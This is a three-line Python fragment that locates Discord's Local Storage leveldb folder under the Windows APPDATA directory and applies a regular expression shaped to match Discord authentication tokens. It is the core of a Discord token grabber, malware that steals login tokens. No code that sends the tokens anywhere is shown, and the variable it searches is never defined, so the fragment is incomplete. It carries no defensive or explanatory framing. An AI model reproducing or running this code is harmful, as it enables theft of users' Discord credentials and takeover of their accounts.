import re, os
path = os.getenv("APPDATA") + r"\discord\Local Storage\leveldb"
re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", text)
